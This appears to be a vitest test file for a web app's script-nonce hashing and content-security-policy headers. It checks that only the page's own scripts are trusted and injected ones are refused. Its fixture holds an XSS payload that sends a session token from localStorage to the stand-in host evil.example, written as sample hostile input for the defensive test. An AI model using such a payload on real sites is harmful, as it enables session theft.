import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { takeOwnScripts } from "../../app/own-scripts.server.ts";
import { withSecurityHeaders } from "../../server/security-headers.ts";

const hashOf = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

const stolen = '<script>fetch("https://evil.example/"+localStorage["madang-session"])</script>';
const page = (mark: string) =>
  `<html><head><script nonce="${mark}">first()</script><link nonce="${mark}" rel="icon" href="/x"/></head>` +
  `<body><p>${stolen}</p><script nonce="guessed">wrong()</script>` +
  `<script nonce="${mark}" type="module" async="">start()</script><script nonce="${mark}" src="/a.js"></script></body></html>`;

test("a page's own scripts are found by the mark of its rendering, and the mark is taken out", () => {
  const { html, hashes } = takeOwnScripts(page("drawn"), "drawn");
  expect(hashes).toEqual([hashOf("first()"), hashOf("start()")]);
  expect(html).not.toContain("drawn");
  expect(html).toContain('<script type="module" async="">start()</script>');
});

test("a script that came in with somebody's text is never allowed", () => {
  const { hashes } = takeOwnScripts(page("drawn"), "drawn");
  expect(hashes).not.toContain(hashOf('fetch("https://evil.example/"+localStorage["madang-session"])'));
  const response = new Response(stolen, { headers: { "Content-Type": "text/html" } });
  expect(withSecurityHeaders(response, null).headers.get("content-security-policy")).toContain(
    "script-src 'self';",
  );
});
